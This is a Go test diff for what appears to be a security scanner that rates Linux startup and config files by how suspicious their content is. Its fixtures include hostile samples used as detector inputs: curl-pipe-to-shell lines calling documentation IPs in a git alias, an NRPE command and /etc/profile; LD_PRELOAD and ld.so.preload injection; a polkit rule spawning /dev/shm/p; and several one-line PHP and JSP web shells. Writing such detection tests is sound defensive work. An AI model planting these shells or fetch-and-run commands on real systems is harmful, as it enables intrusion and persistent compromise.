@@ -59,6 +59,54 @@ func TestStartupPlaces(t *testing.T) {
 		{"/etc/udev/rules.d/11.rules", "ENV{SYSTEMD_WANTS} += \"x.service\"\n", "medium", []string{"x.service"}},
 		{"/etc/rsyslog.d/50-default.conf", "auth,authpriv.*\t/var/log/auth.log\n*.emerg :omusrmsg:*\nmail.err\t/var/log/mail.err\n", "", nil},
 		{"/etc/rsyslog.d/9.conf", "*.*\t^/var/tmp/h;f\n", "high", []string{"/var/tmp/h"}},
+		{"/root/.gitconfig", "[user]\n\tname = x\n[core]\n\teditor = vim\n\tpager = less -R\n[alias]\n\tst = status\n\tl = !git log --oneline | head\n[credential]\n\thelper = cache --timeout=3600\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n", "", nil},
+		{"/root/.gitconfig", "[alias]\n\tst = \"!curl -s http://192.0.2.1/a | sh; git status\"\n", "high", []string{"192.0.2.1"}},
+		{"/etc/.git/hooks/pre-commit", "#!/bin/sh\nset -e\netckeeper pre-commit -d /etc\n", "", nil},
+		{"/srv/app/.git/hooks/post-receive", "#!/bin/bash\nwhile read old new ref; do\n  git --work-tree=/srv/www/app checkout -f main\n  systemctl reload nginx\ndone\n", "", nil},
+		{"/etc/skel/.bashrc", "case $- in *i*) ;; *) return;; esac\nalias ll='ls -l'\nexport EDITOR=vim\n", "", nil},
+		{"/etc/tmpfiles.d/app.conf", "d /run/app 0755 app app -\nf /run/app/lock 0644 app app - -\nL+ /var/lib/app/current - - - - /srv/app/1.2\nr! /tmp/.X[0-9]*-lock\nz /sys/module/zswap/parameters/enabled - - - - 1\n", "", nil},
+		{"/usr/lib/tmpfiles.d/legacy.conf", "L /etc/os-release - - - - ../usr/lib/os-release\nC /etc/nsswitch.conf - - - -\nd /var/spool/cups 0710 root lp -\n", "", nil},
+		{"/etc/tmpfiles.d/b.conf", "w /etc/ld.so.preload - - - - /usr/lib/libx.so\n", "high", []string{"/etc/ld.so.preload"}},
+		{"/etc/sysusers.d/app.conf", "u app - \"App\" /var/lib/app\ng video 44\nu root 0:0 \"Super\" /root /bin/bash\n", "", nil},
+		{"/etc/polkit-1/rules.d/50-libvirt.rules", "polkit.addRule(function(action, subject) {\n  if (action.id == \"org.libvirt.unix.manage\" && subject.isInGroup(\"libvirt\")) {\n    return polkit.Result.YES;\n  }\n});\n", "", nil},
+		{"/etc/polkit-1/rules.d/40-admin.rules", "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\"];\n});\n", "", nil},
+		{"/var/lib/polkit-1/localauthority/10-vendor.d/x.pkla", "[Reboot]\nIdentity=unix-group:ops\nAction=org.freedesktop.login1.reboot\nResultActive=yes\n", "", nil},
+		{"/etc/polkit-1/rules.d/1.rules", "polkit.addRule(function(a, s) { polkit.spawn([\"/dev/shm/p\", \"x\"]); });\n", "high", []string{"/dev/shm/p"}},
+		{"/etc/dbus-1/system.d/app.conf", "<busconfig>\n<policy user=\"root\"><allow own=\"org.app\"/></policy>\n<policy context=\"default\"><allow send_destination=\"org.app\"/></policy>\n</busconfig>\n", "", nil},
+		{"/etc/incron.d/app", "/srv/in IN_CLOSE_WRITE /usr/local/bin/import $@/$#\n", "", nil},
+		{"/etc/supervisor/conf.d/app.conf", "[program:app]\ncommand=/srv/app/venv/bin/gunicorn app:wsgi -b unix:/tmp/app.sock\nuser=app\nstdout_logfile=/var/log/app.log\n", "", nil},
+		{"/etc/binfmt.d/qemu-arm.conf", ":qemu-arm:M::\\x7fELF\\x01\\x01\\x01:\\xff\\xff:/usr/bin/qemu-arm-static:OF\n", "", nil},
+		{"/var/lib/docker/containers/a/hostconfig.json", `{"Binds":["/:/rootfs:ro","/var/run:/var/run:rw"],"Privileged":true,"RestartPolicy":{"Name":"always"}}`, "", nil},
+		{"/root/.vimrc", "\" settings\nset directory=/tmp//\nnnoremap <leader>r :!make<CR>\nlet x = system('git rev-parse HEAD')\nautocmd BufWritePost *.go silent !gofmt -w %\n", "", nil},
+		{"/root/.tmux.conf", "set -g default-command \"reattach-to-user-namespace -l bash\"\nrun '~/.tmux/plugins/tpm/tpm'\nbind r source-file ~/.tmux.conf\n", "", nil},
+		{"/root/.inputrc", "\"\\e[A\": history-search-backward\nset completion-ignore-case on\n\"\\C-g\": \"git status\\n\"\n", "", nil},
+		{"/root/.screenrc", "shell -/bin/bash\nscreen -t log 1 tail -f /var/log/syslog\nhardstatus string '%H'\n", "", nil},
+		{"/etc/postfix/master.cf", "smtp inet n - y - - smtpd\nmaildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\n", "", nil},
+		{"/root/.procmailrc", ":0fw\n| /usr/bin/spamassassin\n:0:\n* ^X-Spam: yes\nspam/\n", "", nil},
+		{"/etc/snmp/snmpd.conf", "rocommunity public localhost\nextend test1 /bin/echo hello\nextend-sh up /usr/bin/uptime | cut -c1-20\n", "", nil},
+		{"/etc/openvpn/s.conf", "script-security 2\nup /etc/openvpn/update-resolv-conf\nstatus /tmp/openvpn-status.log\n", "", nil},
+		{"/etc/wireguard/wg0.conf", "[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n", "", nil},
+		{"/etc/default/grub", "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/lib/systemd/systemd\"\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\n", "", nil},
+		{"/etc/default/grub.d/a.cfg", "GRUB_CMDLINE_LINUX=\"init=/usr/lib/.i\"\n", "medium", []string{"/usr/lib/.i"}},
+		{"/etc/default/cron", "# Set LOGLEVEL\nEXTRA_OPTS=\"-L 5\"\nif [ -r /etc/default/locale ]; then . /etc/default/locale; export LANG; fi\n", "", nil},
+		{"/etc/default/app", "JAVA_OPTS=\"-Djava.io.tmpdir=/tmp/app -Xmx1g\"\nTMPDIR=/var/tmp/app\n", "", nil},
+		{"/etc/sysconfig/crond", "CRONDARGS=\nLD_PRELOAD=/usr/lib64/x.so\n", "high", []string{"LD_PRELOAD"}},
+		{"/etc/apache2/sites-enabled/a.conf", "<VirtualHost *:80>\n ErrorLog ${APACHE_LOG_DIR}/error.log\n CustomLog \"|/usr/bin/rotatelogs /var/log/apache2/a.%Y 86400\" combined\n</VirtualHost>\n", "", nil},
+		{"/etc/php/8.2/fpm/conf.d/20-x.ini", "extension=curl.so\nzend_extension=/usr/lib/php/20220829/opcache.so\nupload_tmp_dir=/tmp/x\n", "", nil},
+		{"/etc/ssl/openssl.cnf", "HOME = .\nopenssl_conf = openssl_init\n[providers]\nmodule = /usr/lib/ossl-modules/legacy.so\n", "", nil},
+		{"/etc/sudo.conf", "Plugin sudoers_policy sudoers.so\nPath askpass /usr/bin/ssh-askpass\nSet disable_coredump false\n", "", nil},
+		{"/etc/sudo.conf", "Plugin sudoers_io /opt/s/io.so\n", "medium", []string{"/opt/s/io.so"}},
+		{"/etc/nagios/nrpe.cfg", "pid_file=/run/nrpe.pid\ncommand[check_load]=/usr/lib/nagios/plugins/check_load -w 5 -c 10\n", "", nil},
+		{"/etc/nagios/nrpe.cfg", "command[check_x]=/bin/sh -c 'curl http://192.0.2.3/n | sh'\n", "high", []string{"192.0.2.3"}},
+		{"/etc/samba/smb.conf", "[home]\n  root preexec = /usr/local/sbin/mkhome %u\n  path = /tmp/x\n", "", nil},
+		{"/var/lib/dpkg/info/x.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  tmp=$(mktemp -d /tmp/x.XXXXXX)\n  wget -q -O $tmp/f https://example.org/f\n  rm -rf $tmp\nfi\n", "", nil},
+		{"/var/www/html/wp-includes/a.php", "<?php\n$x = filesystem_exists($_GET['p']);\n$this->exec($_POST['q']);\n$cmd = curl_exec($ch);\nif (isset($_POST['a'])) { eval_rule($_POST['a']); }\n$v = base64_decode($_GET['v']);\n", "", nil},
+		{"/var/www/html/wp-includes/b.php", "<?php\n/**\n * The value of `$_POST['action']`, or\n * eval($_GET['x']) of old.\n */\n$q = \"SELECT `a` FROM `b` WHERE c = '\" . esc($_GET['c']) . \"'\";\n// system($_GET['x']);\n", "", nil},
+		{"/var/www/html/e.php", "<?php echo `cat $_GET[f]`;\n", "high", []string{"visitor"}},
+		{"/var/www/html/b.php", "<?php $f='ass'.'ert'; @$_POST['f']($_POST['x']); ?>\n", "high", []string{"visitor"}},
+		{"/var/www/html/c.php", "<?php eval(gzinflate(base64_decode('S0k=')));\n", "high", []string{"hides"}},
+		{"/srv/www/d.jsp", "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n", "high", []string{"visitor names"}},
+		{"/var/www/html/.htaccess", "RewriteEngine On\nAddType application/x-httpd-php .php5\nAddType image/svg+xml .svg\n", "", nil},
 	} {
 		l := bare()
 		f := snapshot.File{Path: c.path, Type: 'f', Mode: 0o644, Size: int64(len(c.text)), Content: []byte(c.text)}
@@ -88,11 +136,27 @@ func TestStartupPlaces(t *testing.T) {
 	}
 }
 
+// TestStartupOfApk: which files of a package are edited is not told by apk's answers: what
+// lies below /etc is judged by what it holds.
+func TestStartupOfApk(t *testing.T) {
+	l := bare()
+	l.manager, l.out.Deeper = "apk", true
+	for p, text := range map[string]string{"/etc/profile": "export PATH\n(curl -s http://192.0.2.1/a | sh) &\n", "/etc/inputrc": "set bell-style none\n"} {
+		l.owned[p] = "alpine-baselayout"
+		l.deep.Files = append(l.deep.Files, snapshot.File{Path: p, Type: 'f', Size: int64(len(text)), Content: []byte(text)})
+	}
+	l.startups()
+	if len(l.out.Things) != 1 || l.out.Things[0].Severity != "critical" && l.out.Things[0].Severity != "high" || !strings.Contains(l.out.Things[0].Title, "/etc/profile") {
+		t.Errorf("%+v", l.out.Things)
+	}
+}
+
 // FuzzStartups: no content of any of these files brings a judge down, and what is said
 // of one stays bounded.
 func FuzzStartups(f *testing.F) {
 	paths := []string{"/etc/sudoers.d/a", "/etc/apt/apt.conf.d/a", "/etc/dpkg/dpkg.cfg.d/a", "/etc/logrotate.d/a", "/etc/network/interfaces", "/etc/inetd.conf", "/etc/xinetd.d/a", "/etc/sysctl.conf", "/root/.ssh/config",
-		"/etc/x.pth", "/etc/python3/sitecustomize.py", "/etc/modules-load.d/a.conf", "/etc/rsyslog.conf", "/etc/systemd/system.conf", "/etc/udev/rules.d/a.rules", "/home/alice/.zlogout", "/etc/ssh/sshd_config", "/etc/pam.d/sshd", "/etc/systemd/system/a.service", "/var/lib/dpkg/diversions"}
+		"/etc/x.pth", "/etc/python3/sitecustomize.py", "/etc/modules-load.d/a.conf", "/etc/rsyslog.conf", "/etc/systemd/system.conf", "/etc/udev/rules.d/a.rules", "/home/alice/.zlogout", "/etc/ssh/sshd_config", "/etc/pam.d/sshd", "/etc/systemd/system/a.service", "/var/lib/dpkg/diversions",
+		"/root/.gitconfig", "/etc/binfmt.d/a.conf", "/etc/tmpfiles.d/a.conf", "/etc/sysusers.d/a.conf", "/etc/polkit-1/rules.d/a.rules", "/etc/polkit-1/localauthority/x/a.pkla", "/etc/dbus-1/system.d/a.conf", "/var/lib/docker/containers/a/hostconfig.json", "/etc/sudo.conf", "/etc/hosts.equiv", "/root/.k5login", "/etc/default/grub", "/var/www/a.php", "/root/.vimrc", "/var/lib/dpkg/info/a.postinst"}
 	for i, seed := range []string{"a ALL=(ALL) NOPASSWD: ALL, \\\n", "DPkg::Post-Invoke {\"a\\\"\";", "post-invoke=\"\n", "postrotate\nendscript\npostrotate", "up", "1 stream tcp nowait root /bin/sh", "server = /bin/sh", "kernel.modprobe=/", "Match x exec \"", "import os.system"} {
 		f.Add(i, []byte(seed))
 	}
